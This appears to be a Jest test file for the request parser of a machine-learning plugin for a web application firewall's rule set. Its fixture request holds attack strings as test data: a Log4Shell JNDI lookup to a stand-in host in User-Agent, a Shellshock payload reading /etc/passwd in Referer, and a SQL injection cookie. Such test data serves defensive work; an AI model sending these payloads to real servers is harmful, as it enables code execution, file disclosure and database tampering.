import request from 'supertest';
import type { LoadedModel } from '../../src/adapter/load-model';
import { requestToJson, type MlRequest } from '../../src/contract/ml-request';
import { parseRequestBody } from '../../src/contract/parse-request';
import { CrsMlError } from '../../src/errors';
import { parseRequestLine } from '../../src/features/request-line';
import { silentLogger } from '../../src/logger';
import { createRequestListener } from '../../src/server/create-request-listener';

/**
 * A v2 body exactly as the Lua client's url_encode / json_object build it (generated once with
 * lua5.1 from plugin/machine-learning-client.lua's functions): every byte outside [A-Za-z0-9-._~]
 * percent-encoded, CRS scores as bare JSON numbers, repeated argument names kept.
 */
const LUA_V2 =
  'v=2&method=GET&path=%2Fapi%2Fitems&args=%7B%22ARGS%3Aq%22%3A%22blue%20shoes%22%2C%22ARGS%3Aq%22%3A%22o%27brien%20%5C%22x%5C%22%22%7D' +
  '&files=%7B%7D&sizes=%7B%7D&hour=07&day=29' +
  '&headers=%7B%22REQUEST_HEADERS%3AUser-Agent%22%3A%22%24%7Bjndi%3Aldap%3A%2F%2Fa.example%2Fx%7D%22%2C%22REQUEST_HEADERS%3AReferer%22%3A' +
  '%22%28%29%20%7B%20%3A%3B%20%7D%3B%20%2Fbin%2Fcat%20%2Fetc%2Fpasswd%22%2C%22REQUEST_HEADERS%3AAccept-Language%22%3A%22fr-CH%2C%20fr%3Bq%3D0.9%22%7D' +
  '&cookies=%7B%22REQUEST_COOKIES%3Alang%22%3A%22en%22%2C%22REQUEST_COOKIES%3Aid%22%3A%221%27%20OR%20%271%27%3D%271%22%7D' +
  '&crs=%7B%22inbound_anomaly_score_pl1%22%3A5%2C%22inbound_anomaly_score_pl2%22%3A0%2C%22sql_injection_score%22%3A5%2C%22xss_score%22%3A0%7D';

const LUA_V2_REQUEST: MlRequest = {
  method: 'GET',
  path: '/api/items',
  args: [['ARGS:q', 'blue shoes'], ['ARGS:q', 'o\'brien "x"']],
  files: [],
  sizes: [],
  hour: 7,
  day: 29,
  version: 2,
  headers: [
    ['REQUEST_HEADERS:User-Agent', '${jndi:ldap://a.example/x}'],
    ['REQUEST_HEADERS:Referer', '() { :; }; /bin/cat /etc/passwd'],
    ['REQUEST_HEADERS:Accept-Language', 'fr-CH, fr;q=0.9'],
  ],
  cookies: [['REQUEST_COOKIES:lang', 'en'], ['REQUEST_COOKIES:id', "1' OR '1'='1"]],
  crs: [['inbound_anomaly_score_pl1', 5], ['inbound_anomaly_score_pl2', 0], ['sql_injection_score', 5], ['xss_score', 0]],
};

/** The v2 body with one field replaced (url-encoded like the client does). */
function withField(name: string, value: string, body = LUA_V2): string {
  const fields = body.split('&').filter((part) => !part.startsWith(`${name}=`));
  return [...fields, `${name}=${encodeURIComponent(value)}`].join('&');
}

function failure(run: () => unknown): { code: string; message: string } {
  try {
    run();
  } catch (error) {
    if (error instanceof CrsMlError) return { code: error.code, message: error.message };
    return { code: `not a CrsMlError: ${String(error)}`, message: '' };
  }
  return { code: 'no error', message: '' };
}

const parse = (body: string) => parseRequestBody(Buffer.from(body));

describe('contract v2 bodies', () => {
  it('reads headers, cookies and CRS scores from the body the Lua client builds', () => {
    expect(parse(LUA_V2)).toEqual(LUA_V2_REQUEST);
  });

  it('finds v=2 in any position, and keeps repeated header names in order', () => {
    const fields = LUA_V2.split('&');
    const moved = [...fields.slice(1), fields[0]].join('&');
    expect(parse(moved)).toEqual(LUA_V2_REQUEST);
    const repeated = parse(withField('headers', '{"REQUEST_HEADERS:X-A":"1","REQUEST_HEADERS:X-A":"2"}'));
    expect(repeated.headers).toEqual([['REQUEST_HEADERS:X-A', '1'], ['REQUEST_HEADERS:X-A', '2']]);
  });

  it('makes every v2 field optional, and keeps negative and fractional scores', () => {
    const bare = parse('v=2&method=GET&path=%2F&args=%7B%7D&hour=1&day=1');
    expect(bare).toEqual({ method: 'GET', path: '/', args: [], files: [], sizes: [], hour: 1, day: 1, version: 2 });
    expect(parse(withField('crs', '{"a":-2.5,"b":1e3}')).crs).toEqual([['a', -2.5], ['b', 1000]]);
  });

  it('reads a body without v as version 1, exactly as before: v2 fields are ignored like unknown ones', () => {
    const v1 = LUA_V2.split('&').slice(1).join('&');
    const request = parse(v1);
    expect(request.version).toBe(1);
    expect([request.headers, request.cookies, request.crs]).toEqual([undefined, undefined, undefined]);
    expect(request.args).toEqual(LUA_V2_REQUEST.args);
    // even when they would not parse: a v1 body never looks inside them
    expect(parse(withField('crs', 'not json', v1)).version).toBe(1);
    expect(parse(`v=1&${v1}`).version).toBe(1);
  });

  it('reads legacy raw bodies as version 1, and ignores v=2 appended after the day', () => {
    const legacy = 'method=POST&path=/search.php&args={"ARGS:q":"fish&chips"}&files={}&sizes={}&hour=07&day=29';
    expect(parse(legacy).version).toBe(1);
    const appended = parse(`${legacy}&v=2&crs=x`);
    expect(appended.version).toBe(1);
    expect(appended.crs).toBeUndefined();
  });

  it.each([
    ['v=3', withField('v', '3'), 'REQUEST_INVALID', 'field "v": is not a contract version this server understands (v=2, or no v for version 1), got "3"'],
    ['v empty', withField('v', ''), 'REQUEST_INVALID', 'field "v": is not a contract version'],
    [
      'a CRS score given as a string',
      withField('crs', '{"inbound_anomaly_score_pl1":5,"sql_injection_score":"5"}'),
      'REQUEST_INVALID',
      'field "crs": "sql_injection_score" must be a finite JSON number (a CRS score, e.g. 5), got "5"',
    ],
    ['a CRS score too large to be finite', withField('crs', '{"xss_score":1e999}'), 'REQUEST_INVALID', 'field "crs": "xss_score" must be a finite JSON number'],
    ['a CRS score that is not JSON (Lua prints inf)', withField('crs', '{"xss_score":inf}'), 'REQUEST_FORMAT', 'field "crs": expected a string or number value at character 13'],
    [
      'a header value given as a number',
      withField('headers', '{"REQUEST_HEADERS:Content-Length":12}'),
      'REQUEST_INVALID',
      'field "headers": "REQUEST_HEADERS:Content-Length" must be a JSON string, got 12',
    ],
    ['a cookie value given as a number', withField('cookies', '{"REQUEST_COOKIES:n":1}'), 'REQUEST_INVALID', 'field "cookies": "REQUEST_COOKIES:n" must be a JSON string, got 1'],
    ['headers that are not a JSON object', withField('headers', '["x"]'), 'REQUEST_FORMAT', 'field "headers": expected "{" at character 0'],
    ['headers given twice', `${LUA_V2}&headers=%7B%7D`, 'REQUEST_FORMAT', 'field "headers" is given twice'],
  ])('refuses %s with %s naming the field', (_case, body, code, message) => {
    const got = failure(() => parse(body));
    expect(got.code).toBe(code);
    expect(got.message).toContain(message);
  });

  it('answers 400 with that one line through the server', async () => {
    const judge = jest.fn();
    const model = { judge } as unknown as LoadedModel;
    const app = createRequestListener({ model: () => model, logger: silentLogger });
    const res = await request(app).post('/').send(withField('crs', '{"rce_score":"high"}')).expect(400);
    expect(res.text).toContain('field "crs": "rce_score" must be a finite JSON number');
    const unknown = await request(app).post('/').send(withField('v', '3')).expect(400);
    expect(unknown.text).toContain('v=2, or no v for version 1');
    expect(judge).not.toHaveBeenCalled();
  });
});

describe('requestToJson and the JSON-lines format', () => {
  it('prints the version and the v2 fields, and reads them back to the same request', () => {
    const line = requestToJson(parse(LUA_V2));
    expect(line).toBe(
      '{"v":2,"method":"GET","path":"/api/items","args":{"ARGS:q":"blue shoes","ARGS:q":"o\'brien \\"x\\""},"files":{},"sizes":{},' +
        '"hour":7,"day":29,"headers":{"REQUEST_HEADERS:User-Agent":"${jndi:ldap://a.example/x}",' +
        '"REQUEST_HEADERS:Referer":"() { :; }; /bin/cat /etc/passwd","REQUEST_HEADERS:Accept-Language":"fr-CH, fr;q=0.9"},' +
        '"cookies":{"REQUEST_COOKIES:lang":"en","REQUEST_COOKIES:id":"1\' OR \'1\'=\'1"},' +
        '"crs":{"inbound_anomaly_score_pl1":5,"inbound_anomaly_score_pl2":0,"sql_injection_score":5,"xss_score":0}}',
    );
    expect(parseRequestLine(line)).toEqual(LUA_V2_REQUEST);
  });

  it('prints "v":1 for version 1 and reads lines written before v2 unchanged', () => {
    const old = '{"method":"GET","path":"/","args":{"ARGS:a":"1"},"hour":7,"day":29}';
    const request = parseRequestLine(old);
    expect(request.version).toBe(1);
    expect(requestToJson(request)).toBe('{"v":1,"method":"GET","path":"/","args":{"ARGS:a":"1"},"files":{},"sizes":{},"hour":7,"day":29}');
    expect(parseRequestLine(requestToJson(request))).toEqual(request);
  });

  it('takes a line with v2 fields but no "v" as version 2', () => {
    const request = parseRequestLine('{"method":"GET","path":"/","args":{},"hour":7,"day":29,"crs":{"xss_score":5}}');
    expect([request.version, request.crs]).toEqual([2, [['xss_score', 5]]]);
  });

  it.each([
    ['"v":1 with v2 fields', '{"v":1,"method":"GET","path":"/","args":{},"hour":7,"day":29,"cookies":{}}', 'field "cookies": is a contract v2 field; give "v": 2 with it'],
    ['"v":3', '{"v":3,"method":"GET","path":"/","args":{},"hour":7,"day":29}', 'field "v": is not a contract version'],
    ['a CRS score as a string', '{"v":2,"method":"GET","path":"/","args":{},"hour":7,"day":29,"crs":{"x":"1"}}', 'field "crs": "x" must be a finite JSON number'],
    ['a header as a number', '{"v":2,"method":"GET","path":"/","args":{},"hour":7,"day":29,"headers":{"h":1}}', 'field "headers": "h" must be a JSON string'],
  ])('refuses %s', (_case, line, message) => {
    const got = failure(() => parseRequestLine(line));
    expect(got.code).toBe('REQUEST_INVALID');
    expect(got.message).toContain(message);
  });
});
